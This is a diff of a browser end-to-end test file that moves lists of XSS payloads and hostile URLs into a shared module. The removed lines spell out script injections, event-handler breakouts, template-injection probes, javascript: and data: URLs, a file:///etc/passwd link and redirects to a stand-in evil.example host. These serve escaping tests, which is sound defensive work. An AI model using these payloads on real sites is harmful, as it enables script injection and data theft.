@@ -10,68 +10,11 @@ from playwright.sync_api import Browser
 
 from tests.e2e.browsing import Window, schemes, skeleton, window
 from tests.e2e.house import START, House
+from tests.payloads import ADDRESSES, PAYLOADS
 
 pytestmark = [pytest.mark.chromium, pytest.mark.timeout(240)]
 
 PLAIN = "Ana"
-PAYLOADS = (
-    "<script>alert(1)</script>",
-    "</title><script>alert(2)</script>",
-    "</style><script>alert(3)</script>",
-    "</textarea><script>alert(4)</script>",
-    "<!--><script>alert(5)</script>-->",
-    "<img src=x onerror=alert(6)>",
-    '"><img src=x onerror=alert(7)>',
-    "'><img src=x onerror=alert(8)>",
-    '" onfocus="alert(9)" autofocus="',
-    "' onfocus='alert(10)' autofocus='",
-    "x onmouseover=alert(11) y",
-    "` onmouseover=alert(12) `",
-    "<svg onload=alert(13)>",
-    "<svg><script>alert(14)</script></svg>",
-    '<math><mtext></table><mglyph><style><!--</style><img title="--><img src onerror=alert(15)>">',
-    "<iframe src=javascript:alert(16)>",
-    "<iframe srcdoc='<script>parent.alert(17)</script>'>",
-    "<object data=javascript:alert(18)>",
-    "<embed src=javascript:alert(19)>",
-    "<a href=javascript:alert(20)>x</a>",
-    "<base href=https://evil.example/>",
-    "<meta http-equiv=refresh content=0;url=https://evil.example/>",
-    "<link rel=stylesheet href=https://evil.example/x.css>",
-    "<style>*{background:url(https://evil.example/)}</style>",
-    "<form action=https://evil.example/><button>x",
-    "<input type=hidden name=do value=all>",
-    "<details open ontoggle=alert(21)>",
-    "<body onload=alert(22)>",
-    "<marquee onstart=alert(23)>",
-    "<video><source onerror=alert(24)>",
-    "<template><script>alert(25)</script></template>",
-    "<plaintext>",
-    '<noscript><p title="</noscript><img src=x onerror=alert(26)>">',
-    "&lt;script&gt;alert(27)&lt;/script&gt;",
-    "&#60;img src=x onerror=alert(28)&#62;",
-    "\\u003cscript\\u003ealert(29)\\u003c/script\\u003e",
-    "%3Cscript%3Ealert(30)%3C/script%3E",
-    "{{ 7 * 7 }}{% raw %}",
-    "{{ lead.__class__.__mro__ }}",
-    "＜script＞alert(31)＜/script＞",
-    "<scr\tipt>alert(32)</scr\tipt>",
-    "]]><script>alert(33)</script>",
-)
-ADDRESSES = (
-    "javascript:alert(1)",
-    "JaVaScRiPt:alert(2)",
-    " javascript:alert(3)",
-    "java\tscript:alert(4)",
-    "javascript&colon;alert(5)",
-    "data:text/html,<script>alert(6)</script>",
-    "vbscript:msgbox(7)",
-    'https://frunza.example/" onclick="alert(8)',
-    "https://frunza.example/' onclick='alert(9)",
-    "https://frunza.example/><script>alert(10)</script>",
-    "//evil.example/",
-    "file:///etc/passwd",
-)
 
 
 @pytest.fixture(scope="module")
